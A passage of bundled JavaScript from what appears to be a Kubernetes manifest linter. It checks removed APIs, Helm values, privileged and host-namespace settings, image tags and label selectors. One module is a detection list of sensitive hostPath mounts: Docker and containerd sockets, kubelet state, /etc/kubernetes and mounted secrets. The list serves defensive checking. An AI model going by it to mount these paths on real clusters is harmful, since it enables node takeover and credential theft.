        ['SubjectAccessReview', 'LocalSubjectAccessReview', 'SelfSubjectAccessReview', 'SelfSubjectRulesReview'],
        '1.22',
        'authorization.k8s.io/v1',
    ],
    ['certificates.k8s.io/v1beta1', ['CertificateSigningRequest'], '1.22', 'certificates.k8s.io/v1'],
    ['coordination.k8s.io/v1beta1', ['Lease'], '1.22', 'coordination.k8s.io/v1'],
    ['scheduling.k8s.io/v1beta1', ['PriorityClass'], '1.22', 'scheduling.k8s.io/v1'],
    ['scheduling.k8s.io/v1alpha1', ['PriorityClass'], '1.17', 'scheduling.k8s.io/v1'],
    ['storage.k8s.io/v1beta1', ['CSIDriver', 'CSINode', 'StorageClass', 'VolumeAttachment'], '1.22', 'storage.k8s.io/v1'],
    ['storage.k8s.io/v1beta1', ['CSIStorageCapacity'], '1.27', 'storage.k8s.io/v1'],
    ['policy/v1beta1', ['PodDisruptionBudget'], '1.25', 'policy/v1'],
    ['policy/v1beta1', ['PodSecurityPolicy'], '1.25', 'Pod Security Admission (namespace labels) or a policy engine'],
    ['batch/v1beta1', ['CronJob'], '1.25', 'batch/v1'],
    ['batch/v2alpha1', ['CronJob'], '1.21', 'batch/v1'],
    ['discovery.k8s.io/v1beta1', ['EndpointSlice'], '1.25', 'discovery.k8s.io/v1'],
    ['events.k8s.io/v1beta1', ['Event'], '1.25', 'events.k8s.io/v1'],
    ['node.k8s.io/v1beta1', ['RuntimeClass'], '1.25', 'node.k8s.io/v1'],
    ['autoscaling/v2beta1', ['HorizontalPodAutoscaler'], '1.25', 'autoscaling/v2'],
    ['autoscaling/v2beta2', ['HorizontalPodAutoscaler'], '1.26', 'autoscaling/v2'],
    ['flowcontrol.apiserver.k8s.io/v1beta1', ['FlowSchema', 'PriorityLevelConfiguration'], '1.26', 'flowcontrol.apiserver.k8s.io/v1'],
    ['flowcontrol.apiserver.k8s.io/v1beta2', ['FlowSchema', 'PriorityLevelConfiguration'], '1.29', 'flowcontrol.apiserver.k8s.io/v1'],
    ['flowcontrol.apiserver.k8s.io/v1beta3', ['FlowSchema', 'PriorityLevelConfiguration'], '1.32', 'flowcontrol.apiserver.k8s.io/v1'],
];
exports.REMOVED_APIS = table.flatMap(([apiVersion, kinds, removedIn, replacement]) => kinds.map((kind) => ({ apiVersion, kind, removedIn, replacement })));
const byKey = new Map(exports.REMOVED_APIS.map((r) => [`${r.apiVersion}/${r.kind}`, r]));
function removedApi(apiVersion, kind) {
    return byKey.get(`${apiVersion}/${kind}`);
}


/***/ }),

/***/ 84557:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.environmentOfManifest = environmentOfManifest;
exports.namedProduction = namedProduction;
exports.isProductionManifest = isProductionManifest;
/** Which environment a manifest belongs to: config paths and namespaces first, then its namespace name. */
const picomatch_1 = __importDefault(__webpack_require__(14006));
const environments_1 = __webpack_require__(72658);
const matchersByConfig = new WeakMap();
function matchersOf(config) {
    let m = matchersByConfig.get(config);
    if (!m) {
        m = Object.entries(config.environments).map(([name, env]) => ({
            name,
            paths: env.kubernetes.paths.length ? (0, picomatch_1.default)(env.kubernetes.paths, { dot: true }) : undefined,
            namespaces: env.kubernetes.namespaces,
        }));
        matchersByConfig.set(config, m);
    }
    return m;
}
function environmentOfManifest(obj, config) {
    for (const { name, paths, namespaces } of matchersOf(config)) {
        if (paths?.(obj.file))
            return name;
        if (obj.namespace && namespaces.includes(obj.namespace))
            return name;
    }
    const segments = [...obj.file.split('/').slice(0, -1), obj.namespace ?? ''];
    const known = (0, environments_1.environmentNames)(config);
    for (const seg of segments.reverse()) {
        const hit = known.find((e) => seg === e || seg.endsWith(`-${e}`) || seg === `${e}uction`);
        if (hit)
            return hit;
    }
    return undefined;
}
/** Whether the environment the manifest belongs to is a production one; undefined when no environment names it. */
function namedProduction(obj, config) {
    const env = environmentOfManifest(obj, config);
    return env === undefined ? undefined : (0, environments_1.isProductionEnvironment)(config, env);
}
/** Production unless the manifest is known to belong to a non-production environment. */
function isProductionManifest(obj, config) {
    return namedProduction(obj, config) ?? true;
}


/***/ }),

/***/ 3439:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.helmValuesSettings = helmValuesSettings;
exports.helmValuesSettingsOf = helmValuesSettingsOf;
/**
 * Pod settings in Helm values, found by the shapes common charts use (helm-values.ts gives the
 * values): `securityContext` / `containerSecurityContext` / `podSecurityContext` maps (any key
 * ending in securityContext), `hostNetwork` / `hostPID` / `hostIPC`, and images as
 * `image: {registry, repository, tag}` or `image: "repo:tag"`. A chart decides what a value does, so
 * only these conventional meanings are read; an image map without a tag takes the chart's appVersion.
 */
const is_record_1 = __webpack_require__(32789);
const yaml_tree_1 = __webpack_require__(43183);
const helm_values_1 = __webpack_require__(49861);
const image_reference_1 = __webpack_require__(78605);
const placeholders_1 = __webpack_require__(87328);
const HOST_FIELDS = new Set(['hostNetwork', 'hostPID', 'hostIPC']);
const MAX_DEPTH = 24;
const cache = new WeakMap();
function helmValuesSettings(root) {
    let found = cache.get(root);
    if (!found) {
        found = [];
        walk((0, yaml_tree_1.toPlain)(root), [], undefined, found);
        cache.set(root, found);
    }
    return found;
}
function isSecurityContextKey(key) {
    return typeof key === 'string' && /securitycontext$/i.test(key);
}
function walk(value, path, key, out) {
    if (path.length > MAX_DEPTH)
        return;
    if (Array.isArray(value)) {
        value.forEach((v, i) => walk(v, [...path, i], i, out));
        return;
    }
    if (!(0, is_record_1.isRecord)(value))
        return;
    if (isSecurityContextKey(key))
        securityContext(value, path, out);
    // `privileged: true` elsewhere is the chart's own switch for a component (`kubeletPlugin.privileged`), unless it configures a policy.
    else if (value.privileged === true && !path.some((k) => typeof k === 'string' && /securitypolic|^psp$|rbac/i.test(k)))
        out.push({ kind: 'privileged', path: [...path, 'privileged'] });
    for (const field of HOST_FIELDS) {
        if (value[field] === true)
            out.push({ kind: 'host-namespace', path: [...path, field], field: field });
    }
    for (const [k, v] of Object.entries(value)) {
        if (/^image$/i.test(k) || /Image$/.test(k))
            image(v, value, [...path, k], k, out);
        if (v && typeof v === 'object')
            walk(v, [...path, k], k, out);
    }
}
function securityContext(sc, path, out) {
    if (sc.privileged === true)
        out.push({ kind: 'privileged', path: [...path, 'privileged'] });
    const add = (0, is_record_1.isRecord)(sc.capabilities) ? sc.capabilities.add : undefined;
    if (!Array.isArray(add))
        return;
    add.forEach((cap, i) => {
        if (typeof cap === 'string')
            out.push({ kind: 'capability', path: [...path, 'capabilities', 'add', i], capability: cap.toUpperCase().replace(/^CAP_/, '') });
    });
}
function isUnknown(text) {
    return (0, image_reference_1.isTemplated)(text) || (0, placeholders_1.hasPlaceholder)(text) || /\s/.test(text.trim());
}
/** `image: {repository, tag}` (tag `latest`), or `image: "repo:latest"` / `image: repo` without a tag key beside it. */
function image(v, parent, path, key, out) {
    if ((0, is_record_1.isRecord)(v)) {
        // An override may set only the tag; the chart supplies the repository.
        const named = v.repository ?? v.name;
        const repository = typeof named === 'string' && named.trim() ? named.trim() : undefined;
        if ((repository && isUnknown(repository)) || (typeof v.digest === 'string' && v.digest.trim()))
            return;
        const ref = repository ? (0, image_reference_1.parseImageReference)(repository) : undefined;
        const tag = v.tag === undefined || v.tag === null || v.tag === '' ? ref?.tag : String(v.tag);
        if (ref?.digest || tag === undefined || isUnknown(tag))
            return;
        const shown = `${ref?.name ?? "the chart's image"}:${tag}`;
        if (tag === 'latest')
            out.push({ kind: 'image', path: v.tag === undefined ? [...path, 'repository'] : [...path, 'tag'], image: shown, problem: 'latest' });
        return;
    }
    const text = typeof v === 'string' ? v : '';
    if (!text.trim() || isUnknown(text))
        return;
    const ref = (0, image_reference_1.parseImageReference)(text);
    if (ref.digest)
        return;
    if (ref.tag === 'latest')
        out.push({ kind: 'image', path, image: text, problem: 'latest' });
    // A tag key beside the image (`imageTag`, `tag`) completes it in the chart's template.
    else if (ref.tag === undefined && !Object.keys(parent).some((k) => k !== key && /tag$/i.test(k)))
        out.push({ kind: 'image', path, image: text, problem: 'untagged' });
}
/** The settings of one kind in every set of Helm values an object carries (HelmRelease, Application). */
function helmValuesSettingsOf(obj, kind) {
    const out = [];
    for (const values of (0, helm_values_1.helmValuesOf)(obj).values) {
        for (const setting of helmValuesSettings(values.root)) {
            if (setting.kind !== kind)
                continue;
            out.push({
                setting: setting,
                field: values.field,
                name: (0, yaml_tree_1.formatPath)(setting.path),
                at: values.locate(setting.path),
            });
        }
    }
    return out;
}


/***/ }),

/***/ 49861:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.isHelmValuesCarrier = isHelmValuesCarrier;
exports.helmValuesOf = helmValuesOf;
/**
 * Helm values that GitOps resources pass to a chart: Flux HelmRelease `spec.values`, Argo CD
 * Application `spec.source(s).helm.valuesObject`, `values` (a YAML string) and `parameters`, and the
 * same inside an ApplicationSet's template. The chart's templates are elsewhere, so only settings whose meaning the
 * common chart conventions fix are read from them (helm-values-settings.ts): securityContext,
 * host namespaces and images.
 */
const yaml_tree_1 = __webpack_require__(43183);
const schema_1 = __webpack_require__(80757);
const NONE = { values: [], unchecked: [] };
const cache = new WeakMap();
/** Whether the object hands values to a Helm chart (HelmRelease, Application, ApplicationSet). */
function isHelmValuesCarrier(obj) {
    const group = (0, schema_1.groupOf)(obj.apiVersion);
    if (group === 'helm.toolkit.fluxcd.io')
        return obj.kind === 'HelmRelease';
    return group === 'argoproj.io' && (obj.kind === 'Application' || obj.kind === 'ApplicationSet');
}
function helmValuesOf(obj) {
    if (!isHelmValuesCarrier(obj))
        return NONE;
    let found = cache.get(obj);
    if (!found)
        cache.set(obj, (found = collect(obj)));
    return found;
}
function collect(obj) {
    const out = { values: [], unchecked: [] };
    if (obj.kind === 'HelmRelease') {
        addTree(obj, ['spec', 'values'], out);
        const from = (0, yaml_tree_1.getNode)(obj.root, ['spec', 'valuesFrom']);
        if (from?.kind === 'seq' && from.items.length) {
            const names = from.items.map((i) => (i.kind === 'map' ? `${scalarText(i.entries.get('kind'))} ${scalarText(i.entries.get('name'))}` : '?'));
            out.unchecked.push({ field: 'spec.valuesFrom', at: ['spec', 'valuesFrom'], reason: 'external', detail: names.join(', ') });
        }
        return out;
    }
    const spec = obj.kind === 'ApplicationSet' ? ['spec', 'template', 'spec'] : ['spec'];
    const sources = [[...spec, 'source']];
    const list = (0, yaml_tree_1.getNode)(obj.root, [...spec, 'sources']);
    if (list?.kind === 'seq')
        list.items.forEach((_, i) => sources.push([...spec, 'sources', i]));
    for (const source of sources) {
        const helm = [...source, 'helm'];
        addTree(obj, [...helm, 'valuesObject'], out);
        addString(obj, [...helm, 'values'], out);
        addParameters(obj, [...helm, 'parameters'], out);
        const files = (0, yaml_tree_1.getNode)(obj.root, [...helm, 'valueFiles']);
        if (files?.kind === 'seq' && files.items.length) {
            const names = files.items.map(scalarText);
            out.unchecked.push({ field: (0, yaml_tree_1.formatPath)([...helm, 'valueFiles']), at: [...helm, 'valueFiles'], reason: 'external', detail: names.join(', ') });
        }
    }
    return out;
}
function scalarText(node) {
    return node?.kind === 'scalar' && node.value !== null ? String(node.value) : '?';
}
/** Values written as YAML inside the manifest: paths are the manifest's own. */
function addTree(obj, path, out) {
    const node = (0, yaml_tree_1.getNode)(obj.root, path);
    if (node?.kind !== 'map')
        return;
    out.values.push({ field: (0, yaml_tree_1.formatPath)(path), root: node, locate: (p) => (0, yaml_tree_1.locate)(node, p, node.loc) });
}
/**
 * Argo CD `helm.parameters` (`--set`): `{name: securityContext.privileged, value: "true"}` becomes
 * the values tree it sets, each leaf reported on its parameter's `name`. Names with list indexes or
 * escaped dots are left out; `forceString` parameters stay strings.
 */
function addParameters(obj, path, out) {
    const list = (0, yaml_tree_1.getNode)(obj.root, path);
    if (list?.kind !== 'seq')
        return;
    const root = { kind: 'map', entries: new Map(), loc: list.loc };
    for (const item of list.items) {
        if (item.kind !== 'map')
            continue;
        const name = item.entries.get('name');
        const value = item.entries.get('value');
        if (name?.kind !== 'scalar' || typeof name.value !== 'string' || /[[\\]/.test(name.value) || value?.kind !== 'scalar')
            continue;
        const keys = name.value.split('.');
        let map = root;
        for (const key of keys.slice(0, -1)) {
            let next = map.entries.get(key);
            if (next?.kind !== 'map')
                map.entries.set(key, (next = { kind: 'map', entries: new Map(), loc: name.loc, keyLoc: name.loc }));
            map = next;
        }
        const forceString = item.entries.get('forceString');
        const text = value.value;
        const typed = forceString?.kind === 'scalar' && forceString.value === true ? text : text === 'true' ? true : text === 'false' ? false : text;
        map.entries.set(keys[keys.length - 1], { kind: 'scalar', value: typed, loc: value.loc, keyLoc: name.loc });
    }
    if (root.entries.size)
        out.values.push({ field: (0, yaml_tree_1.formatPath)(path), root, locate: (p) => (0, yaml_tree_1.locate)(root, p, list.loc) });
}
/** Values written as a YAML string (`values: |`): parsed, with lines mapped back into the manifest when the string is a literal block. */
function addString(obj, path, out) {
    const node = (0, yaml_tree_1.getNode)(obj.root, path);
    if (node?.kind !== 'scalar' || typeof node.value !== 'string' || !node.value.trim())
        return;
    const field = (0, yaml_tree_1.formatPath)(path);
    const parsed = (0, yaml_tree_1.parseYaml)(obj.file, node.value);
    const at = node.keyLoc ?? node.loc;
    const shift = literalBlockShift(node);
    const problem = parsed.problems[0];
    if (problem) {
        const line = shift ? problem.line + shift.lines : at.line;
        const problemAt = shift ? { file: obj.file, line, column: problem.column + shift.columns } : at;
        out.unchecked.push({ field, at: problemAt, reason: 'not-yaml', detail: `line ${line}: ${problem.message}` });
        return;
    }
    const root = parsed.documents[0]?.root;
    if (!root)
        return;
    if (root.kind !== 'map') {
        out.unchecked.push({ field, at: path, reason: 'not-yaml', detail: 'the string is not a YAML map' });
        return;
    }
    out.values.push({
        field,
        root,
        locate: (p) => {
            if (!shift)
                return at;
            const inner = (0, yaml_tree_1.locate)(root, p, root.loc);
            return { file: obj.file, line: inner.line + shift.lines, column: inner.column + shift.columns };
        },
    });
}
/**
 * For a literal block scalar (`values: |`) whose lines are the string's lines: how far its first
 * line is from the string's first line, and the indentation (assumed two columns past the key,
 * the usual style). Folded blocks, quoted and plain strings give undefined: their lines do not map.
 */
function literalBlockShift(node) {
    if (node.kind !== 'scalar' || typeof node.value !== 'string' || node.loc.endLine === undefined)
        return undefined;
    const lines = node.value.replace(/\n+$/, '').split('\n').length;
    const span = node.loc.endLine - node.loc.line - (node.loc.endColumn === 1 ? 1 : 0);
    if (span < lines || !node.value.includes('\n'))
        return undefined;
    const keyColumn = (node.keyLoc ?? node.loc).column;
    return { lines: node.loc.line, columns: keyColumn + 1 };
}


/***/ }),

/***/ 91149:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.hostPathVolumes = hostPathVolumes;
exports.normalizeHostPath = normalizeHostPath;
exports.isSensitiveHostPath = isSensitiveHostPath;
exports.isContainerRuntimeSocket = isContainerRuntimeSocket;
/** hostPath volumes of a pod spec, and which host paths are too sensitive to mount. */
const display_value_1 = __webpack_require__(42785);
const objects_1 = __webpack_require__(35704);
function hostPathVolumes(obj) {
    const spec = (0, objects_1.podSpecOf)(obj);
    const specPath = (0, objects_1.podSpecPath)(obj);
    if (!spec || !specPath || !Array.isArray(spec.volumes))
        return [];
    const out = [];
    spec.volumes.forEach((v, i) => {
        if (!v || typeof v !== 'object')
            return;
        const hp = v.hostPath;
        if (!hp || typeof hp !== 'object')
            return;
        const p = hp.path;
        out.push({
            volume: (0, display_value_1.scalarText)(v.name) ?? `#${i}`,
            path: typeof p === 'string' ? p : '',
            at: [...specPath, 'volumes', i, 'hostPath', 'path'],
        });
    });
    return out;
}
/** Exact host paths that expose the node (kube-linter sensitive-host-mounts and docker-sock, plus runtime sockets). */
const SENSITIVE_EXACT = new Set([
    '/',
    '/boot',
    '/dev',
    '/etc',
    '/lib',
    '/proc',
    '/sys',
    '/usr',
    '/root',
    '/var',
    '/var/run',
    '/run',
    '/var/run/docker.sock',
    '/run/docker.sock',
    '/var/run/containerd/containerd.sock',
    '/run/containerd/containerd.sock',
    '/var/run/crio/crio.sock',
    '/run/crio/crio.sock',
    '/var/run/cri-dockerd.sock',
]);
/** Host directories whose whole subtree is sensitive (kubelet credentials, runtime state, cluster PKI). */
const SENSITIVE_PREFIXES = [
    '/var/lib/kubelet',
    '/var/lib/docker',
    '/var/lib/containerd',
    '/etc/kubernetes',
    '/var/run/secrets',
    '/run/secrets',
    '/proc',
    '/sys',
];
function normalizeHostPath(p) {
    const collapsed = p.trim().replace(/\/+/g, '/');
    return collapsed.length > 1 ? collapsed.replace(/\/$/, '') : collapsed;
}
function isSensitiveHostPath(p) {
    const n = normalizeHostPath(p);
    if (SENSITIVE_EXACT.has(n))
        return true;
    return SENSITIVE_PREFIXES.some((prefix) => n === prefix || n.startsWith(`${prefix}/`));
}
function isContainerRuntimeSocket(p) {
    return /\.sock$/.test(normalizeHostPath(p)) && SENSITIVE_EXACT.has(normalizeHostPath(p));
}


/***/ }),

/***/ 78605:
/***/ ((__unused_webpack_module, exports) => {


/** Container image references: `registry:5000/team/app:1.2@sha256:...` split into parts. */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.parseImageReference = parseImageReference;
exports.isTemplated = isTemplated;
function parseImageReference(image) {
    let rest = image.trim();
    let digest;
    const at = rest.indexOf('@');
    if (at >= 0) {
        digest = rest.slice(at + 1);
        rest = rest.slice(0, at);
    }
    const lastSlash = rest.lastIndexOf('/');
    const colon = rest.lastIndexOf(':');
    // A colon before the last slash belongs to a registry port (`localhost:5000/app`), not a tag.
    if (colon > lastSlash)
        return { name: rest.slice(0, colon), tag: rest.slice(colon + 1), digest };
    return { name: rest, digest };
}
/** Whether the image string is a template placeholder that only a later tool resolves (`{{ .Values.image }}`, `${IMAGE}`). */
function isTemplated(image) {
    return /\{\{|\$\{|\$\(/.test(image);
}


/***/ }),

/***/ 7790:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.incompleteManifest = incompleteManifest;
/** API groups whose documents are configuration files with an apiVersion, not objects with a kind. */
const NOT_OBJECTS = /^(kustomize\.config\.k8s\.io|config\.kubernetes\.io|kubeadm\.k8s\.io|kubelet\.config\.k8s\.io)\//;
function incompleteManifest(root) {
    const metadata = root.entries.get('metadata');
    if (metadata?.kind !== 'map')
        return undefined;
    const apiVersion = root.entries.get('apiVersion');
    const kind = root.entries.get('kind');
    const text = (n) => (n?.kind === 'scalar' && typeof n.value === 'string' && n.value ? n.value : undefined);
    const name = text(metadata.entries.get('name'));
    const called = name ? ` "${name}"` : '';
    if (kind && !apiVersion) {
        const k = text(kind);
        if (!k)
            return undefined;
        return { message: `${k}${called} has no apiVersion: kubectl and the API server reject an object without one`, loc: kind.keyLoc ?? kind.loc };
    }
    if (apiVersion && !kind) {
        const v = text(apiVersion);
        if (!v || NOT_OBJECTS.test(v))
            return undefined;
        return {
            message: `the ${v} object${called} has no kind: kubectl and the API server reject an object without one`,
            loc: apiVersion.keyLoc ?? apiVersion.loc,
        };
    }
    return undefined;
}


/***/ }),

/***/ 70544:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.componentResourceFiles = componentResourceFiles;
/**
 * The files a Kustomize Component adds (`kind: Component`, its `resources`). A Component is built only
 * into the overlays that name it, together with its patches, which may change the base it is built
 * on (replicas, for one). Its resources are objects of their own, checked as such, but comparing them
 * with the base's objects as written compares two halves of different builds.
 */
const layout_1 = __webpack_require__(52483);
/** Repository-relative files of every Component's resources among the objects (kustomization files included). */
function componentResourceFiles(objects) {
    const files = new Set();
    for (const o of objects) {
        if (o.kind !== 'Component' || !o.apiVersion?.startsWith('kustomize.config.k8s.io/'))
            continue;
        const resources = o.value.resources;
        if (!Array.isArray(resources))
            continue;
        for (const r of resources)
            if (typeof r === 'string' && !r.includes('://'))
                files.add((0, layout_1.resolveKustomizeReference)(o.file, r));
    }
    return files;
}


/***/ }),

/***/ 83758:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.matchesLabelMap = matchesLabelMap;
exports.matchesLabelSelector = matchesLabelSelector;
exports.sameNamespace = sameNamespace;
/** A Service-style selector (`{ app: web }`): every pair must match. An empty map selects nothing here. */
function matchesLabelMap(selector, labels) {
    if (!selector || typeof selector !== 'object' || Array.isArray(selector))
        return false;
    const entries = Object.entries(selector);
    if (!entries.length)
        return false;
    return entries.every(([k, v]) => labels[k] === String(v));
}
/**
 * A LabelSelector (`matchLabels` + `matchExpressions`). `{}` selects everything; a missing
 * (null/undefined) selector selects nothing. Malformed input selects nothing.
 */
function matchesLabelSelector(selector, labels) {
    if (!selector || typeof selector !== 'object' || Array.isArray(selector))
        return false;
    const sel = selector;
    if (sel.matchLabels !== undefined && sel.matchLabels !== null) {
        if (typeof sel.matchLabels !== 'object' || Array.isArray(sel.matchLabels))
            return false;
        for (const [k, v] of Object.entries(sel.matchLabels))
            if (labels[k] !== String(v))
                return false;
    }
    if (sel.matchExpressions !== undefined && sel.matchExpressions !== null) {
        if (!Array.isArray(sel.matchExpressions))
            return false;
        for (const expr of sel.matchExpressions) {
            if (!expr || typeof expr !== 'object')
                return false;
            const { key, operator, values } = expr;
            if (typeof key !== 'string')
                return false;
            const vals = Array.isArray(values) ? values.map(String) : [];
            const has = Object.prototype.hasOwnProperty.call(labels, key);
            switch (operator) {
                case 'In':
                    if (!has || !vals.includes(labels[key]))
                        return false;
                    break;
                case 'NotIn':
                    if (has && vals.includes(labels[key]))
                        return false;
                    break;
                case 'Exists':
                    if (!has)
                        return false;
                    break;
                case 'DoesNotExist':
                    if (has)
                        return false;
                    break;
                default:
                    return false;
            }
        }
    }
    return true;
}
/**
 * Whether two objects can live in the same namespace. A manifest without a namespace is applied
 * wherever `kubectl -n`/kustomize puts it, so it is assumed to share the other object's namespace.
 */
function sameNamespace(a, b) {
    return !a.namespace || !b.namespace || a.namespace === b.namespace;
}


/***/ }),

/***/ 35704:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.isWorkload = isWorkload;
exports.podSpecPath = podSpecPath;
exports.podTemplatePath = podTemplatePath;
exports.podSpecOf = podSpecOf;
exports.podLabelsOf = podLabelsOf;
exports.containersOf = containersOf;
exports.probedContainersOf = probedContainersOf;
exports.asStringMap = asStringMap;
exports.objectLabel = objectLabel;
exports.withoutSopsMetadata = withoutSopsMetadata;
/** Kubernetes manifests as the checks see them: identity, tree with positions, pod spec helpers. */
const display_value_1 = __webpack_require__(42785);
const POD_SPEC_PATHS = {
    Pod: ['spec'],
    Deployment: ['spec', 'template', 'spec'],
    StatefulSet: ['spec', 'template', 'spec'],
    DaemonSet: ['spec', 'template', 'spec'],
    ReplicaSet: ['spec', 'template', 'spec'],
    ReplicationController: ['spec', 'template', 'spec'],
    Job: ['spec', 'template', 'spec'],
    CronJob: ['spec', 'jobTemplate', 'spec', 'template', 'spec'],
};
const POD_TEMPLATE_PATHS = {
    Deployment: ['spec', 'template'],
    StatefulSet: ['spec', 'template'],
    DaemonSet: ['spec', 'template'],
    ReplicaSet: ['spec', 'template'],
    ReplicationController: ['spec', 'template'],
    Job: ['spec', 'template'],
    CronJob: ['spec', 'jobTemplate', 'spec', 'template'],
};
function isWorkload(obj) {
    return obj.kind in POD_SPEC_PATHS;
}
/** Path of the pod spec inside a workload, or undefined for non-workloads. */
function podSpecPath(obj) {
    return POD_SPEC_PATHS[obj.kind];
}
/** Path of the pod template (metadata + spec) inside a controller, or undefined. */
function podTemplatePath(obj) {
    return POD_TEMPLATE_PATHS[obj.kind];
}
// eslint-disable-next-line @typescript-eslint/no-explicit-any
function podSpecOf(obj) {
    const path = podSpecPath(obj);
    if (!path)
        return undefined;
    const v = plainAt(obj.value, path);
    // eslint-disable-next-line @typescript-eslint/no-explicit-any
    return v && typeof v === 'object' && !Array.isArray(v) ? v : undefined;
}
/** Labels of the pods a workload creates. */
function podLabelsOf(obj) {
    if (obj.kind === 'Pod')
        return asStringMap(obj.value.metadata?.labels);
    const tpl = podTemplatePath(obj);
    if (!tpl)
        return {};
    return asStringMap(plainAt(obj.value, [...tpl, 'metadata', 'labels']));
}
function containersOf(obj) {
    const specPath = podSpecPath(obj);
    const spec = podSpecOf(obj);
    if (!specPath || !spec)
        return [];
    const out = [];
    const lists = [
        ['initContainers', 'initContainer'],
        ['containers', 'container'],
        ['ephemeralContainers', 'ephemeralContainer'],
    ];
    for (const [field, kind] of lists) {
        const list = spec[field];
        if (!Array.isArray(list))
            continue;
        list.forEach((c, i) => {
            if (c && typeof c === 'object' && !Array.isArray(c)) {
                out.push({ path: [...specPath, field, i], value: c, name: (0, display_value_1.scalarText)(c.name) ?? `#${i}`, kind });
            }
        });
    }
    return out;
}
/**
 * Sidecars a service mesh injects into the manifest (`istioctl kube-inject`, `linkerd inject`): the
 * mesh defines them and their probes (Istio's proxy has a readiness probe only, on a port it does not
 * declare, by design), so their probes are not the author's to set.
 */
const MESH_SIDECARS = new Set(['istio-proxy', 'linkerd-proxy']);
/** The containers whose probes the manifest's author sets: containersOf without injected mesh sidecars. */
function probedContainersOf(obj) {
    return containersOf(obj).filter((c) => !(c.kind === 'container' && MESH_SIDECARS.has(c.name)));
}
/** A value inside the object's plain data (already computed once when the file was loaded). */
function plainAt(value, path) {
    let cur = value;
    for (const seg of path) {
        if (!cur || typeof cur !== 'object')
            return undefined;
        cur = cur[seg];
    }
    return cur;
}
function asStringMap(v) {
    const out = {};
    if (v && typeof v === 'object' && !Array.isArray(v)) {
        // A map or list where a label value belongs matches nothing and shows as JSON, not `[object Object]`.
        for (const [k, val] of Object.entries(v))
            out[k] = (0, display_value_1.displayValue)(val);
    }
    return out;
}
/** `namespace/Kind/name` for messages and dedup. */
function objectLabel(obj) {
    return `${obj.kind}/${obj.namespace ? `${obj.namespace}/` : ''}${obj.name}`;
}
/**
 * The object as the API server receives it from a SOPS-encrypted manifest: without the top-level
 * `sops:` metadata (its MAC, key groups, version), which SOPS and Flux's decryption strip before
 * applying, and with each ciphertext a value of its type (an empty string, 0 or false). Any other
 * object is returned as it is.
 */
// eslint-disable-next-line @typescript-eslint/no-explicit-any
function withoutSopsMetadata(value) {
    const sops = value.sops;
    if (!sops || typeof sops !== 'object' || Array.isArray(sops) || !('mac' in sops || 'lastmodified' in sops || 'version' in sops))
        return value;
    const { sops: _metadata, ...rest } = value;
    return decrypted(rest); // eslint-disable-line @typescript-eslint/no-explicit-any
}
/** SOPS ciphertexts (`ENC[AES256_GCM,data:…,type:int]`) as a value of their type: what the schema sees once decrypted. */
function decrypted(value) {
    if (typeof value === 'string') {
        if (!value.startsWith('ENC['))
            return value;
        const type = /,type:(\w+)\]$/.exec(value)?.[1];
        return type === 'int' || type === 'float' ? 0 : type === 'bool' ? false : '';
    }
    if (Array.isArray(value))
        return value.map(decrypted);
    if (value && typeof value === 'object')
        return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, decrypted(v)]));
    return value;
}


/***/ }),

/***/ 77581:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.mayOwnPods = mayOwnPods;
exports.operatorResourceFor = operatorResourceFor;
/**
 * Pods that no manifest templates because an operator creates them from a custom resource: the
 * Prometheus Operator runs `prometheus-<name>-N` pods for a Prometheus, Strimzi runs Kafka brokers for
 * a Kafka, CloudNativePG runs Postgres for a Cluster. A Service selecting such pods matches no pod
 * template in the repository and is still right.
 */
const label_selector_1 = __webpack_require__(83758);
const schema_1 = __webpack_require__(80757);
/** API groups whose custom resources configure something else and never own pods. */
const NON_WORKLOAD_GROUPS = new Set([
    'cert-manager.io',
    'acme.cert-manager.io',
    'bitnami.com',
    'external-secrets.io',
    'gateway.networking.k8s.io',
    'networking.istio.io',
    'security.istio.io',
    'traefik.io',
    'traefik.containo.us',
    'policy.linkerd.io',
    'kyverno.io',
    'snapshot.storage.k8s.io',
    'keda.sh',
    'kustomize.toolkit.fluxcd.io',
    'source.toolkit.fluxcd.io',
    'notification.toolkit.fluxcd.io',
    'image.toolkit.fluxcd.io',
]);
/** Kinds of the Prometheus Operator's group that only configure scraping, rules or routing. */
const NON_WORKLOAD_KINDS = new Set(['ServiceMonitor', 'PodMonitor', 'Probe', 'PrometheusRule', 'ScrapeConfig', 'AlertmanagerConfig']);
/** Whether the object is a custom resource that may own pods (a Prometheus, a Kafka, a HelmRelease...). */
function mayOwnPods(obj) {
    if ((0, schema_1.isBuiltInGroup)(obj.apiVersion) || (0, schema_1.isClientSideConfig)(obj.apiVersion, obj.kind))
        return false;
    if (NON_WORKLOAD_GROUPS.has((0, schema_1.groupOf)(obj.apiVersion)))
        return false;
    return !NON_WORKLOAD_KINDS.has(obj.kind);
}
/**
 * How many of a selector's pairs a custom resource mentions: its name is the value
 * (`prometheus: k8s` for the Prometheus `k8s`), one of its labels is the pair, or a label map in its
 * spec holds it (`podMetadata.labels`, `template.metadata.labels`).
 */
function mentions(obj, selector) {
    const labels = obj.value.metadata?.labels;
    const own = labels && typeof labels === 'object' ? labels : {};
    return Object.entries(selector).filter(([k, v]) => v === obj.name || String(own[k]) === v || holds(obj.value.spec, k, v, 0)).length;
}
function holds(v, key, value, depth) {
    if (!v || typeof v !== 'object' || depth > 8)
        return false;
    if (Array.isArray(v))
        return v.some((x) => holds(x, key, value, depth + 1));
    const map = v;
    if (map[key] !== undefined && String(map[key]) === value)
        return true;
